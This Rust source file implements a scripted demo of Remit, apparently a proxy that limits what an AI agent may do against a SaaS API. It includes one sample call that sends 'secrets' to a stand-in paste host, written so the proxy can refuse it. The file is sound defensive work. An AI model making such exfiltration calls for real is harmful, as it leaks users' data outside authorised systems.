mod agent;
mod stage;
mod upstream;

use std::{fmt::Write as _, fs, path::Path, process::ExitCode};

use http::StatusCode;

use crate::{
    audit::verify_dir,
    call::TaskId,
    cli::{COULD_NOT, NO, fail, shown},
    refusal::Reason,
    telemetry,
};

use agent::{Agent, Reply};
use stage::{Stage, StageError};

/// Tell the whole story on loopback: no network, no config.
///
/// Starts an upstream that stands for a SaaS, Remit in front of it, and a scripted agent; says what
/// happens as it happens. Exits with 1 if a step does not turn out as told.
#[derive(Debug, clap::Args)]
#[command(after_help = "Example:\n  remit demo")]
pub struct Args {
    /// Keep the folder with the demo's config and audit, and say where it is
    #[arg(long)]
    keep: bool,
}

pub fn run(args: Args) -> ExitCode {
    telemetry::start("off");
    let runtime = match tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build() {
        Ok(runtime) => runtime,
        Err(error) => return fail(COULD_NOT, &error),
    };
    let told = runtime.block_on(async {
        match tokio::spawn(tell(args)).await {
            Ok(told) => told,
            Err(error) => Err(StageError::new(error)),
        }
    });
    runtime.shutdown_background();
    match told {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::from(NO),
        Err(error) => fail(COULD_NOT, &error),
    }
}

/// The story so far: prints each step and remembers whether all turned out as told.
struct Story {
    step: u32,
    as_told: bool,
}

impl Story {
    fn begin(&mut self, title: &str) {
        self.step += 1;
        println!("\n{}. {title}", self.step);
    }

    fn say(&self, text: &str) {
        println!("   {}", shown(text));
    }

    fn check(&mut self, holds: bool, what: &str) {
        println!("   {} {}", if holds { "ok:" } else { "NOT AS TOLD:" }, shown(what));
        self.as_told &= holds;
    }

    /// What the agent got, and whether it is what was told.
    fn reply(&mut self, request: &str, reply: &Reply, status: StatusCode, reason: Option<Reason>) {
        self.say(&format!("agent: {request}"));
        let mut got = format!("answer: {}", reply.status);
        if let Some(reason) = &reply.reason {
            let _ = write!(got, " ({reason})");
        }
        self.say(&got);
        if let Some(detail) = &reply.detail {
            self.say(&format!("detail: {detail}"));
        }
        let want = reason.map_or_else(|| format!("{status}"), |r| format!("{status}, {r}"));
        self.check(reply.status == status && reply.reason.as_deref() == reason.map(Reason::code), &format!("expected {want}"));
    }
}

async fn tell(args: Args) -> Result<bool, StageError> {
    let mut story = Story { step: 0, as_told: true };
    println!("Remit demo: an agent, a SaaS that stands on loopback, and Remit between them.");
    let stage = Stage::set().await?;
    story.say(&format!("upstream  https://{} on {}", stage::HOST, stage.upstream.address));
    story.say(&format!("remit     proxy on {}, files in {}", stage.proxy, stage.dir.display()));
    let dir = stage.dir.clone();
    let told = acts(&mut story, stage).await;
    if args.keep {
        println!("\nkept: {}", dir.display());
    } else {
        // Litter at worst.
        let _ = fs::remove_dir_all(&dir);
    }
    told?;
    println!("\n{}", if story.as_told { "All as told." } else { "Something did not turn out as told." });
    Ok(story.as_told)
}

async fn acts(story: &mut Story, stage: Stage) -> Result<(), StageError> {
    let (task, agent) = stage.start(&[])?;
    within_the_grant(story, &agent).await?;
    beyond_it(story, &stage, &agent).await?;
    less_authority(story, &stage).await?;
    credential(story, &stage, &agent);
    the_end(story, &stage, &agent, &task).await?;
    let audit = stage.close().await?;
    on_the_record(story, &audit)
}

async fn within_the_grant(story: &mut Story, agent: &Agent) -> Result<(), StageError> {
    story.begin("A read that the task was granted");
    let reply = agent.call("GET", stage::HOST, "/projects/web/issues", "").await?;
    story.reply("GET /projects/web/issues", &reply, StatusCode::OK, None);

    story.begin("A write within the grant");
    let reply = agent.call("POST", stage::HOST, "/projects/web/issues", r#"{"title":"Login is broken"}"#).await?;
    story.reply("POST /projects/web/issues", &reply, StatusCode::CREATED, None);
    Ok(())
}

async fn beyond_it(story: &mut Story, stage: &Stage, agent: &Agent) -> Result<(), StageError> {
    story.begin("A write outside the grant: refused, and told why");
    let before = stage.upstream.seen();
    let reply = agent.call("POST", stage::HOST, "/projects/billing/issues", r#"{"title":"Pay me"}"#).await?;
    story.reply("POST /projects/billing/issues", &reply, StatusCode::FORBIDDEN, Some(Reason::NotGranted));

    story.begin("A host that nobody registered");
    let reply = agent.call("GET", "paste.example", "/upload?data=secrets", "").await?;
    story.reply("GET https://paste.example/upload", &reply, StatusCode::FORBIDDEN, Some(Reason::UnknownHost));
    story.check(stage.upstream.seen() == before, "upstream saw neither call");
    Ok(())
}

async fn less_authority(story: &mut Story, stage: &Stage) -> Result<(), StageError> {
    story.begin("A task of the same workflow with less authority: it may only read");
    let (_, reader) = stage.start(&[r#"{"intents": ["tracker.issues.list"], "where": {"project": "web"}}"#])?;
    let reply = reader.call("GET", stage::HOST, "/projects/web/issues", "").await?;
    story.reply("GET /projects/web/issues", &reply, StatusCode::OK, None);
    let reply = reader.call("POST", stage::HOST, "/projects/web/issues", r#"{"title":"Again"}"#).await?;
    story.reply("POST /projects/web/issues", &reply, StatusCode::FORBIDDEN, Some(Reason::NotGranted));
    Ok(())
}

fn credential(story: &mut Story, stage: &Stage, agent: &Agent) {
    story.begin("The credential");
    let seen = stage.upstream.authorization().unwrap_or_default();
    story.say(&format!("agent held:   Authorization: Bearer {}", agent.placeholder));
    story.say(&format!("upstream saw: Authorization: {}… ({} characters)", seen.chars().take(14).collect::<String>(), seen.len()));
    story.check(seen == format!("Bearer {}", stage.secret.expose()), "upstream got the real credential");
    story.check(!agent.ever_saw(stage.secret.expose()), "no answer that the agent got holds it");
}

async fn the_end(story: &mut Story, stage: &Stage, agent: &Agent, task: &TaskId) -> Result<(), StageError> {
    story.begin("The task ends, and its authority with it");
    story.check(stage.end(task), &format!("task {task} ended"));
    let reply = agent.call("GET", stage::HOST, "/projects/web/issues", "").await?;
    story.reply("GET /projects/web/issues", &reply, StatusCode::FORBIDDEN, Some(Reason::TaskEnded));
    Ok(())
}

fn on_the_record(story: &mut Story, audit: &Path) -> Result<(), StageError> {
    story.begin("The record");
    let report = verify_dir(audit, None).map_err(StageError::new)?;
    for chain in &report.chains {
        let (decisions, outcomes) = (chain.decisions, chain.outcomes);
        story.say(&format!("{} records: {decisions} decisions, {outcomes} outcomes; sealed to {}", chain.records, chain.sealed));
    }
    story.check(report.verified(), "the audit verifies by its public key");

    let changed = stage::change_one_byte(audit)?;
    story.say(&format!("one byte changed in {changed}"));
    let report = verify_dir(audit, None).map_err(StageError::new)?;
    let fault = report.fault().map(ToString::to_string);
    story.say(fault.as_deref().unwrap_or("nothing was found"));
    story.check(!report.verified() && fault.is_some(), "verification fails and names the record");
    Ok(())
}
